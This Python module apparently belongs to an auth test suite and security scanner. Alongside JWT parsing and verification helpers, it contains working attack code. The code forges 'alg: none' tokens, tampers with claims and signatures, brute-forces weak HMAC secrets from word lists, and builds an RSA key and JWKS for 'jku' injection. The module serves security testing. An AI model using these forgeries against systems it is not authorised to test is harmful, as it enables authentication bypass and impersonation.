"""The one JWT module (auth suite and scanner): read claims without verifying, forge attack
tokens, crack weak HMAC secrets, and an RSA key pair for ``jku`` injection.

Forged tokens are what an attacker would send: ``alg: none``, a tampered payload or signature,
an expired token signed with the real key when that key is known.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from typing import Any

import jwt as pyjwt


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _unb64(part: str) -> bytes:
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def looks_like_jwt(token: str) -> bool:
    parts = token.split(".")
    if len(parts) != 3:
        return False
    try:
        json.loads(_unb64(parts[0]))
        json.loads(_unb64(parts[1]))
    except ValueError:
        return False
    return True


def header(token: str) -> dict[str, Any]:
    value = json.loads(_unb64(token.split(".")[0]))
    return value if isinstance(value, dict) else {}


def claims(token: str) -> dict[str, Any]:
    """The payload of a JWT, not verified."""
    value = json.loads(_unb64(token.split(".")[1]))
    return value if isinstance(value, dict) else {}


def forge_alg_none(token: str, **changes: Any) -> str:
    """The same claims (with ``changes``) under ``alg: none`` and an empty signature."""
    body = {**claims(token), **changes}
    head = {"alg": "none", "typ": "JWT"}
    return f"{_b64(json.dumps(head).encode())}.{_b64(json.dumps(body).encode())}."


def tamper_payload(token: str, **changes: Any) -> str:
    """Claims changed (default: ``sub`` altered) but the original signature kept."""
    h, _, sig = token.split(".")
    body = claims(token)
    body.update(changes or {"sub": f"{body.get('sub', '')}x"})
    return f"{h}.{_b64(json.dumps(body).encode())}.{sig}"


def tamper_signature(token: str) -> str:
    """The last signature byte flipped."""
    h, p, sig = token.split(".")
    raw = bytearray(_unb64(sig) or b"\0")
    raw[-1] ^= 0x01
    return f"{h}.{p}.{_b64(bytes(raw))}"


def sign(payload: dict[str, Any], key: str, algorithm: str = "HS256") -> str:
    return pyjwt.encode(payload, key, algorithm=algorithm)


def forge_expired(token: str, key: str, algorithm: str = "HS256", ago_s: int = 3600) -> str:
    """The token's claims, expired ``ago_s`` seconds ago, signed with the real key."""
    now = int(time.time())
    body = {**claims(token), "exp": now - ago_s, "iat": now - ago_s - 60}
    if "nbf" in body:
        body["nbf"] = now - ago_s - 60
    return sign(body, key, algorithm)


def verifies_with(token: str, key: str, algorithm: str = "HS256") -> bool:
    """Whether ``key`` verifies the token's signature (expiry ignored)."""
    try:
        pyjwt.decode(
            token,
            key,
            algorithms=[algorithm],
            options={
                "verify_exp": False,
                "verify_aud": False,
                "verify_iss": False,
                "verify_nbf": False,
                "verify_iat": False,
            },
        )
    except pyjwt.PyJWTError:
        return False
    return True


def seconds_left(token: str) -> float | None:
    exp = claims(token).get("exp")
    return float(exp) - time.time() if isinstance(exp, int | float) else None


# ------------------------------------------------------- forging for the scanner's JWT attacks
# HMAC signing is done here with ``hmac`` (not PyJWT) because the attacks need keys PyJWT
# rightly refuses: empty keys, short dictionary words.

_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


@dataclass(frozen=True, slots=True)
class Jwt:
    header: dict[str, Any]
    claims: dict[str, Any]
    signing_input: bytes
    signature: bytes
    raw: str

    @classmethod
    def parse(cls, token: str) -> Jwt | None:
        try:
            head, body, sig = token.split(".")
            header = json.loads(_unb64(head))
            claims = json.loads(_unb64(body))
            signature = _unb64(sig)
        except (ValueError, TypeError):
            return None
        if not isinstance(header, dict) or not isinstance(claims, dict):
            return None
        return cls(header, claims, f"{head}.{body}".encode(), signature, token)

    @property
    def alg(self) -> str:
        return str(self.header.get("alg", ""))


def encode_unsigned(header: Mapping[str, Any], claims: Mapping[str, Any]) -> str:
    head = _b64(json.dumps(dict(header), separators=(",", ":")).encode())
    body = _b64(json.dumps(dict(claims), separators=(",", ":")).encode())
    return f"{head}.{body}"


def sign_hmac(header: Mapping[str, Any], claims: Mapping[str, Any], key: bytes) -> str:
    alg = str(header.get("alg", "HS256"))
    unsigned = encode_unsigned(header, claims)
    mac = hmac.new(key, unsigned.encode(), _HASHES.get(alg, hashlib.sha256)).digest()
    return f"{unsigned}.{_b64(mac)}"


def alg_none(token: Jwt, variant: str = "none") -> str:
    return encode_unsigned({**token.header, "alg": variant}, token.claims) + "."


def bad_signature(token: str) -> str:
    head, body, sig = token.split(".")
    raw = bytearray(_unb64(sig) or b"\0" * 32)
    raw[0] ^= 0xFF
    raw[-1] ^= 0xFF
    return f"{head}.{body}.{_b64(bytes(raw))}"


def crack(token: Jwt, candidates: Iterable[str]) -> str | None:
    """The HMAC secret that produced ``token``'s signature, if it is among ``candidates``."""
    digest = _HASHES.get(token.alg)
    if digest is None:
        return None
    for word in candidates:
        mac = hmac.new(word.encode(), token.signing_input, digest).digest()
        if hmac.compare_digest(mac, token.signature):
            return word
    return None


class RsaKey:
    """A fresh RSA key pair and its public JWKS, for ``jku`` injection."""

    def __init__(self, kid: str = "battletest") -> None:
        from cryptography.hazmat.primitives.asymmetric import rsa

        self.kid = kid
        self._key = rsa.generate_private_key(public_exponent=65537, key_size=2048)

    def jwks(self) -> dict[str, Any]:
        numbers = self._key.public_key().public_numbers()

        def to_b64(n: int) -> str:
            return _b64(n.to_bytes((n.bit_length() + 7) // 8, "big"))

        return {
            "keys": [
                {
                    "kty": "RSA",
                    "kid": self.kid,
                    "use": "sig",
                    "alg": "RS256",
                    "n": to_b64(numbers.n),
                    "e": to_b64(numbers.e),
                }
            ]
        }

    def sign(self, header: Mapping[str, Any], claims: Mapping[str, Any]) -> str:
        from cryptography.hazmat.primitives import hashes
        from cryptography.hazmat.primitives.asymmetric import padding

        unsigned = encode_unsigned({**header, "alg": "RS256", "kid": self.kid}, claims)
        sig = self._key.sign(unsigned.encode(), padding.PKCS1v15(), hashes.SHA256())
        return f"{unsigned}.{_b64(sig)}"


__all__ = [
    "Jwt",
    "RsaKey",
    "alg_none",
    "bad_signature",
    "claims",
    "crack",
    "encode_unsigned",
    "forge_alg_none",
    "forge_expired",
    "header",
    "looks_like_jwt",
    "seconds_left",
    "sign",
    "sign_hmac",
    "tamper_payload",
    "tamper_signature",
    "verifies_with",
]
